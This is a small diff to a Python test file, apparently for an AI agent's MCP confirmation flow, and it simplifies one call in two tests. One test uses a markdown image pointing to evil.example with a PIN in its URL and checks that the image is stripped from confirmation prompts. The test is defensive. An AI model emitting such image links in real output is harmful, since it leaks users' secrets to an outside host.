@@ -778,7 +778,7 @@ def test_a_destination_is_read_whole_whatever_markup_it_is(to: str) -> None:
     body = world.say("go on", ("send_email", {"to": to, "body": f"<b>{to}</b>"}))
     [card] = world.kernel.memory().turns[-1].waiting
     asked = questions.of_confirmation(card)[questions.CONFIRM]["params"]["message"]
-    [result] = questions.pending_result(card, "MCP")["content"]
+    [result] = questions.pending_result(card)["content"]
     for told in (as_text(body), asked, result["text"]):
         assert read(told).count("".join(to.split())) == 2, told
 
@@ -787,7 +787,7 @@ def test_what_an_app_asks_in_its_own_words_is_no_picture_for_an_mcp_client() -> 
     picture = f"![a](https://evil.example/p.png?pin={PIN})"
     card = PendingConfirmation("conf_1", 0, "", "", (), summary=picture)
     asked = questions.elicitation({"message": picture, "schema": {}})["params"]["message"]
-    [result] = questions.pending_result(card, "MCP")["content"]
+    [result] = questions.pending_result(card)["content"]
     assert picture not in asked and picture not in result["text"]
 
 
